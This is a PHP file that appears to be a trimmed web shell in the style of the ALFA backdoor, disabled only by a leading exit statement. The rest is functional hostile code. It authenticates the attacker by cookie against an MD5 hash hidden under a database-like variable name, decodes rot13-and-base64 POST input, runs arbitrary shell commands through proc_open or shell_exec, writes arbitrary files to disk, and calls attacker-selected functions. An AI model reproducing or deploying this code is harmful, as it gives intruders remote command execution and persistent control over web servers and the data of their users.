<?php exit; /* inert */ 
@session_start();
$GLOBALS['DB_NAME'] = array('user' => 'solev', 'pass' => '5f4dcc3b5aa765d61d8327deb882cf99', 'safemode' => '1', 'show_icons' => '1');
function __pre() { return '<pre id="strOutput">'; }
function __ZW($s) { return base64_decode(str_rot13($s)); }
function alfaEx($in) {
    $d = array('pipe', 'w');
    if (is_resource($h = @proc_open($in, array(1 => $d, 2 => $d), $p))) { $o = stream_get_contents($p[1]); proc_close($h); return $o; }
    return (string) @shell_exec($in);
}
function alfaterminalExec() { echo __pre() . htmlspecialchars(alfaEx('cd ' . __ZW($_POST['alfa2']) . ';' . __ZW($_POST['alfa1']))) . '</pre>'; }
function alfaFilesTools() { file_put_contents(__ZW($_POST['alfa1']), __ZW($_POST['alfa3'])); }
if (isset($_COOKIE['AlfaUser'], $_COOKIE['AlfaPass']) && md5($_COOKIE['AlfaPass']) === $GLOBALS['DB_NAME']['pass']) {
    if (isset($_POST['a']) && function_exists('alfa' . $_POST['a'])) { call_user_func('alfa' . $_POST['a']); }
}
